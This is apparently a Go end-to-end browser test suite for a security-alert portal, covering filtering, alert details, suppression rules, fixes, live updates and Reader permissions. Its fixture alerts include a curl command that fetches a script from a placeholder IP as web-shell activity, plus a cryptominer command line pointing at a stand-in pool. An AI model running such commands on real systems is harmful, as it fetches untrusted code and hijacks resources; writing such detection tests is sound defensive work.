package portal

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"sync"
	"testing"
	"time"

	cdplog "github.com/chromedp/cdproto/log"
	"github.com/chromedp/cdproto/runtime"
	"github.com/chromedp/chromedp"
	"github.com/chromedp/chromedp/kb"

	"github.com/vigil-sec/vigil/internal/alert"
	"github.com/vigil-sec/vigil/internal/store"
	"github.com/vigil-sec/vigil/internal/testenv"
)

// chromium finds Debian's chromium (`apt-get install -y chromium`).
func chromium(t *testing.T) string {
	t.Helper()
	for _, name := range []string{"chromium", "chromium-browser", "google-chrome"} {
		if p, err := exec.LookPath(name); err == nil {
			return p
		}
	}
	testenv.Require(t, false, "chromium not found on PATH: apt-get install -y chromium")
	return ""
}

// artifactsDir is where screenshots go: $VIGIL_ARTIFACTS/portal or a
// temporary directory.
func artifactsDir(t *testing.T) string {
	t.Helper()
	dir := t.TempDir()
	if a := os.Getenv("VIGIL_ARTIFACTS"); a != "" {
		dir = filepath.Join(a, "portal")
		if err := os.MkdirAll(dir, 0o755); err != nil {
			t.Fatalf("create artifacts directory %s: %v", dir, err)
		}
	}
	t.Logf("portal screenshots are written to %s", dir)
	return dir
}

// tab is one browser tab that records JavaScript errors, console errors
// and CSP violations.
type tab struct {
	t   *testing.T
	ctx context.Context
	dir string

	mu       sync.Mutex
	problems []string
	// allowNetwork ignores "Failed to load resource" entries (a tab that
	// provokes a refused request on purpose).
	allowNetwork bool
}

func newTab(t *testing.T, parent context.Context, dir string, opts ...chromedp.ContextOption) *tab {
	t.Helper()
	tb := &tab{t: t, dir: dir}
	opts = append(opts, chromedp.WithListener(tb.record))
	ctx, cancel := chromedp.NewContext(parent, opts...)
	t.Cleanup(cancel)
	tb.ctx = ctx
	// The first run opens the tab, which lives as long as that run's
	// context: run it without a timeout.
	if err := chromedp.Do(ctx, chromedp.EmulateViewport(1280, 800)); err != nil {
		t.Fatalf("open a browser tab: %v", err)
	}
	return tb
}

// record keeps what would show in the DevTools console as an error.
func (tb *tab) record(ev any) {
	tb.mu.Lock()
	defer tb.mu.Unlock()
	switch ev := ev.(type) {
	case *runtime.EventExceptionThrown:
		msg := ev.ExceptionDetails.Text
		if ev.ExceptionDetails.Exception != nil {
			msg += " " + ev.ExceptionDetails.Exception.Description
		}
		tb.problems = append(tb.problems, "JavaScript exception: "+msg)
	case *runtime.EventConsoleAPICalled:
		if ev.Type == runtime.ConsoleAPICalledTypeError || ev.Type == runtime.ConsoleAPICalledTypeAssert {
			var args []string
			for _, a := range ev.Args {
				args = append(args, string(a.Value)+a.Description)
			}
			tb.problems = append(tb.problems, "console error: "+strings.Join(args, " "))
		}
	case *cdplog.EventEntryAdded:
		e := ev.Entry
		if e.Source == cdplog.EntrySourceNetwork && tb.allowNetwork {
			return
		}
		if e.Level == cdplog.EntryLevelError || e.Source == cdplog.EntrySourceSecurity || strings.Contains(e.Text, "Content Security Policy") {
			tb.problems = append(tb.problems, fmt.Sprintf("browser log (%s/%s): %s %s", e.Source, e.Level, e.Text, e.URL))
		}
	}
}

func (tb *tab) fail(err error) {
	tb.t.Helper()
	ctx, cancel := context.WithTimeout(tb.ctx, 3*time.Second)
	defer cancel()
	loc, _ := chromedp.Run(ctx, chromedp.Location())
	body, _ := chromedp.Run(ctx, chromedp.Evaluate[string](`document.body ? document.body.innerText.slice(0, 2000) : ""`))
	tb.t.Fatalf("browser at %s: %v\npage text:\n%s", loc, err, body)
}

func (tb *tab) run(actions ...chromedp.Action[chromedp.Void]) {
	tb.t.Helper()
	ctx, cancel := context.WithTimeout(tb.ctx, 20*time.Second)
	defer cancel()
	if err := chromedp.Do(ctx, actions...); err != nil {
		tb.fail(err)
	}
}

func get[T any](tb *tab, a chromedp.Action[T]) T {
	tb.t.Helper()
	ctx, cancel := context.WithTimeout(tb.ctx, 20*time.Second)
	defer cancel()
	v, err := chromedp.Run(ctx, a)
	if err != nil {
		tb.fail(err)
	}
	return v
}

func (tb *tab) screenshot(name string) {
	tb.t.Helper()
	buf := get(tb, chromedp.FullScreenshot(100) /* 100: PNG */)
	p := filepath.Join(tb.dir, name+".png")
	if err := os.WriteFile(p, buf, 0o644); err != nil {
		tb.t.Fatalf("write screenshot %s: %v", p, err)
	}
}

func (tb *tab) text(sel string) string {
	tb.t.Helper()
	return get(tb, chromedp.Text(chromedp.CSS(sel)))
}

func eval[T any](tb *tab, js string) T {
	tb.t.Helper()
	return get(tb, chromedp.Evaluate[T](js, chromedp.EvalAwaitPromise))
}

// in makes the tab report to a subtest's t until the returned func runs.
func (tb *tab) in(t *testing.T) func() {
	prev := tb.t
	tb.t = t
	return func() { tb.t = prev }
}

func (tb *tab) checkNoProblems() {
	tb.t.Helper()
	tb.mu.Lock()
	defer tb.mu.Unlock()
	for _, p := range tb.problems {
		tb.t.Errorf("%s", p)
	}
	tb.problems = nil
}

func (tb *tab) signIn(base, token string) {
	tb.t.Helper()
	tb.run(
		chromedp.Navigate(base+"/portal/signin"),
		chromedp.WaitVisible(chromedp.CSS("#token")),
		chromedp.SendKeys(chromedp.CSS("#token"), token),
		chromedp.Submit(chromedp.CSS("#token")),
		chromedp.WaitVisible(chromedp.CSS("#alerts-table")),
	)
}

func TestThePortalInARealBrowser(t *testing.T) {
	path := chromium(t)
	dir := artifactsDir(t)
	e := newEnv(t, false)
	now := time.Now().UTC()
	miner := testAlert("miner-1", alert.SeverityHigh, "Digital currency mining related behavior detected", now.Add(-10*time.Minute))
	shell := testAlert("shell-1", alert.SeverityMedium, "Web shell activity detected", now.Add(-30*time.Minute))
	shell.Entities.Process = &alert.Process{Path: "/usr/bin/curl", CommandLine: "curl -s http://203.0.113.9/x.sh", UID: 33, User: "www-data"}
	scan := testAlert("scan-1", alert.SeverityLow, "Network scanning tool detected", now.Add(-2*time.Hour))
	e.ingest(miner, shell, scan)

	opts := append(chromedp.DefaultExecAllocatorOptions[:],
		chromedp.ExecPath(path),
		chromedp.Flag("headless", true),
		chromedp.NoSandbox,
		chromedp.Flag("disable-background-networking", true),
		chromedp.DisableGPU,
		chromedp.UserDataDir(t.TempDir()),
	)
	allocCtx, cancelAlloc := chromedp.NewExecAllocator(context.Background(), opts...)
	defer cancelAlloc()
	browserCtx, cancelBrowser := chromedp.NewContext(allocCtx)
	defer cancelBrowser()
	if err := chromedp.Do(browserCtx); err != nil {
		testenv.Require(t, false, "chromium does not start: "+err.Error())
	}
	ctx := context.Background()
	base := e.ts.URL

	t.Run("the console listener catches errors and CSP violations", func(t *testing.T) {
		// Without this, "no problems" below could mean "not listening".
		probe := newTab(t, browserCtx, dir)
		probe.run(chromedp.Navigate(base+"/portal/signin"), chromedp.WaitVisible(chromedp.CSS("#token")))
		_ = eval[bool](probe, `console.error("probe-error"); true`)
		_ = eval[bool](probe, `(() => { const s = document.createElement("script"); s.textContent = "1"; document.body.appendChild(s); return true })()`)
		waitFor(t, "the probe's console error and CSP violation", func() bool {
			probe.mu.Lock()
			defer probe.mu.Unlock()
			all := strings.Join(probe.problems, "\n")
			return strings.Contains(all, "probe-error") && strings.Contains(all, "Content Security Policy")
		})
	})

	// An Owner signs in and works through the Defender flow.
	owner := newTab(t, browserCtx, dir)
	owner.signIn(base, e.owner)
	owner.screenshot("01-alerts")
	var rows int
	rows = eval[int](owner, `document.querySelectorAll("#alerts-body tr").length`)
	if rows != 3 {
		t.Errorf("alerts page lists %d alerts, want 3", rows)
	}

	t.Run("filter by severity", func(t *testing.T) {
		defer owner.in(t)()
		owner.run(
			chromedp.Click(chromedp.CSS(`input[name="severity"][value="High"]`)),
			chromedp.Click(chromedp.CSS("#apply-filters")),
			chromedp.WaitNotPresent(chromedp.CSS(`tr[data-id="scan-1"]`)),
			chromedp.WaitVisible(chromedp.CSS(`input[name="severity"][value="High"]:checked`)),
		)
		var ids []string
		ids = eval[[]string](owner, `Array.from(document.querySelectorAll("#alerts-body tr")).map(r => r.dataset.id)`)
		if len(ids) != 1 || ids[0] != "miner-1" {
			t.Errorf("High filter shows %v, want [miner-1]", ids)
		}
		owner.screenshot("02-alerts-filtered")
	})

	t.Run("open details and see the process tree", func(t *testing.T) {
		defer owner.in(t)()
		owner.run(
			chromedp.Click(chromedp.CSS(`tr[data-id="miner-1"] a.alert-link`)),
			chromedp.WaitVisible(chromedp.CSS("#process-tree")),
		)
		tree := owner.text("#process-tree")
		for _, want := range []string{"/usr/bin/tini", "python3 app.py", "/bin/sh", "/tmp/.x/pause", "this alert"} {
			if !strings.Contains(tree, want) {
				t.Errorf("process tree lacks %q: %s", want, tree)
			}
		}
		if got := owner.text("#command-line"); got != "pause --donate-level 1 -o pool.example:3333" {
			t.Errorf("command line = %q", got)
		}
		owner.screenshot("03-alert-details")
	})

	t.Run("dismiss", func(t *testing.T) {
		defer owner.in(t)()
		owner.run(chromedp.Click(chromedp.CSS("#dismiss")), chromedp.WaitNotPresent(chromedp.CSS("#dismiss")), chromedp.WaitVisible(chromedp.CSS(".flash-ok")))
		if got := owner.text("#alert-status"); got != "Dismissed" {
			t.Errorf("status after dismiss = %q", got)
		}
		a, err := e.st.GetAlert(ctx, "miner-1")
		if err != nil || a.Status != alert.StatusDismissed || a.StatusChangedBy != "token/bootstrap" {
			t.Errorf("stored alert after dismiss: %s by %q (%v)", a.Status, a.StatusChangedBy, err)
		}
	})

	t.Run("create a suppression rule with a preview", func(t *testing.T) {
		defer owner.in(t)()
		owner.run(
			chromedp.Navigate(base+"/portal/alerts/shell-1"),
			chromedp.Click(chromedp.CSS("#suppress-similar")),
			chromedp.WaitVisible(chromedp.CSS("#preview-count")),
		)
		if got := owner.text("#preview-count"); got != "1" {
			t.Errorf("preview count = %q, want 1", got)
		}
		owner.screenshot("04-suppress-similar")
		owner.run(
			chromedp.SetValue(chromedp.CSS("#s-name"), "webshell-payments"),
			chromedp.Click(chromedp.CSS("#create-rule")),
			chromedp.WaitNotPresent(chromedp.CSS("#create-rule")),
			chromedp.WaitVisible(chromedp.CSS(".flash-ok")),
		)
		rule, err := e.st.GetSuppression(ctx, "default", "webshell-payments")
		if err != nil || rule.Match["entities.process.path"] != "/usr/bin/curl" {
			t.Errorf("stored rule = %+v, %v", rule, err)
		}
	})

	t.Run("fix a recommendation", func(t *testing.T) {
		defer owner.in(t)()
		owner.run(chromedp.Navigate(base+"/portal/recommendations"), chromedp.WaitVisible(chromedp.CSS("button.fix")))
		owner.screenshot("05-recommendations")
		sensorRec := chromedp.CSS(`li.rec[data-name^="installSensor-"][data-name$="prod-aks"]`)
		owner.run(chromedp.Click(sensorRec+" button.fix"), chromedp.WaitNotPresent(sensorRec), chromedp.WaitVisible(chromedp.CSS(".flash-ok")))
		if x, err := e.st.GetExtension(ctx, e.prod, SensorExtensionName); err != nil || x.ExtensionType != "vigil.sensor" {
			t.Errorf("prod-aks has no sensor extension after Fix: %+v %v", x, err)
		}
		if _, err := e.st.GetExtension(ctx, e.dev, SensorExtensionName); !errors.Is(err, store.ErrNotFound) {
			t.Errorf("Fix on prod-aks touched dev-k3s too (%v)", err)
		}
		// The plan's recommendation has its own Fix (Owner): it turns the plan on.
		planRec := chromedp.CSS(`li.rec[data-name^="enableContainersPlan-"]`)
		owner.run(chromedp.Click(planRec+" button.fix"), chromedp.WaitNotPresent(planRec), chromedp.WaitVisible(chromedp.CSS(".flash-ok")))
		if pl, err := e.st.GetPlan(ctx, "default"); err != nil || !pl.Enabled || pl.UpdatedBy != "token/bootstrap" {
			t.Errorf("plan after its Fix = %+v %v", pl, err)
		}
	})

	t.Run("a new alert arrives live", func(t *testing.T) {
		defer owner.in(t)()
		owner.run(chromedp.Navigate(base+"/portal/alerts"), chromedp.WaitVisible(chromedp.CSS("#alerts-table")))
		waitFor(t, "the page's event stream", func() bool { return e.portal.events.count() >= 1 })
		e.ingest(testAlert("live-1", alert.SeverityHigh, "Binary drift detected", time.Now()))
		owner.run(chromedp.WaitVisible(chromedp.CSS(`tr[data-id="live-1"]`)))
		var first string
		first = eval[string](owner, `document.querySelector("#alerts-body tr").dataset.id`)
		if first != "live-1" {
			t.Errorf("the live alert is not the first row (first: %s)", first)
		}
		if got := owner.text("#live-status"); !strings.Contains(got, "Binary drift detected") {
			t.Errorf("the live region does not announce the alert: %q", got)
		}
		owner.screenshot("06-alerts-live")
	})

	t.Run("clusters, plan and settings pages", func(t *testing.T) {
		defer owner.in(t)()
		for _, p := range []struct{ path, sel, shot string }{
			{"/portal/clusters", "#clusters-table", "07-clusters"},
			{"/portal/clusters/default/rg-prod/prod-aks", "#extensions-table", "08-cluster"},
			{"/portal/plan", "main form", "09-plan"},
			{"/portal/settings", "#tokens-table", "10-settings"},
		} {
			owner.run(chromedp.Navigate(base+p.path), chromedp.WaitVisible(chromedp.CSS(p.sel)))
			owner.screenshot(p.shot)
		}
	})

	t.Run("keyboard and theme", func(t *testing.T) {
		defer owner.in(t)()
		owner.run(chromedp.Navigate(base+"/portal/alerts"), chromedp.WaitVisible(chromedp.CSS("#alerts-table")), chromedp.KeyEvent(kb.Tab))
		var focused string
		focused = eval[string](owner, `document.activeElement.textContent`)
		if focused != "Skip to content" {
			t.Errorf("the first Tab focuses %q, want the skip link", focused)
		}
		owner.run(chromedp.Click(chromedp.CSS("#theme-toggle")))
		var theme string
		theme = eval[string](owner, `document.documentElement.dataset.theme`)
		if theme != "dark" {
			t.Errorf("theme after the toggle = %q, want dark", theme)
		}
		owner.run(chromedp.Reload(), chromedp.WaitVisible(chromedp.CSS("#alerts-table")))
		theme = eval[string](owner, `document.documentElement.dataset.theme + "/" + getComputedStyle(document.body).backgroundColor`)
		if theme != "dark/rgb(21, 24, 29)" {
			t.Errorf("after a reload the theme is %q, want dark with the dark background", theme)
		}
		owner.screenshot("11-alerts-dark")
		owner.run(chromedp.Click(chromedp.CSS("#theme-toggle")))
	})
	owner.checkNoProblems()

	t.Run("phone width", func(t *testing.T) {
		phone := newTab(t, browserCtx, dir)
		for _, p := range []struct{ path, sel, shot string }{
			{"/portal/alerts", "#alerts-table", "12-phone-alerts"},
			{"/portal/alerts/shell-1", "#process-tree", "13-phone-alert"},
		} {
			phone.run(chromedp.EmulateViewport(390, 844, chromedp.EmulateMobile), chromedp.Navigate(base+p.path), chromedp.WaitVisible(chromedp.CSS(p.sel)))
			var width int
			width = eval[int](phone, `document.documentElement.scrollWidth`)
			if width > 390 {
				t.Errorf("%s is %d px wide at a 390 px viewport: it scrolls sideways", p.path, width)
			}
			phone.screenshot(p.shot)
		}
		phone.checkNoProblems()
	})

	t.Run("a Reader session cannot change anything", func(t *testing.T) {
		reader := newTab(t, browserCtx, dir, chromedp.WithNewBrowserContext())
		reader.allowNetwork = true // the refused POST below logs its 403
		reader.signIn(base, e.userToken("analyst", "Reader", "/subscriptions/default"))
		reader.run(chromedp.Navigate(base+"/portal/alerts/scan-1"), chromedp.WaitVisible(chromedp.CSS("#process-tree")))
		reader.screenshot("14-reader-alert")
		var buttons int
		buttons = eval[int](reader, `document.querySelectorAll("#dismiss, #resolve, #suppress-similar, #alert-actions").length`)
		if buttons != 0 {
			t.Errorf("a Reader sees %d action buttons", buttons)
		}
		// The server refuses the change anyway, with the session's CSRF token.
		status := eval[int](reader, `fetch("/portal/alerts/scan-1/status", {method: "POST", redirect: "manual",
			body: new URLSearchParams({csrf: document.querySelector("input[name=csrf]").value, status: "Dismissed"})}).then(r => r.status)`)
		if status != http.StatusForbidden {
			t.Errorf("a Reader's dismiss = %d, want 403", status)
		}
		if a, _ := e.st.GetAlert(ctx, "scan-1"); a.Status != alert.StatusActive {
			t.Errorf("the Reader changed the alert to %s", a.Status)
		}
		reader.run(chromedp.Navigate(base+"/portal/recommendations"), chromedp.WaitVisible(chromedp.CSS("main h1")))
		buttons = eval[int](reader, `document.querySelectorAll("button.fix").length`)
		if buttons != 0 {
			t.Errorf("a Reader sees %d Fix buttons", buttons)
		}
		reader.checkNoProblems()
	})
}
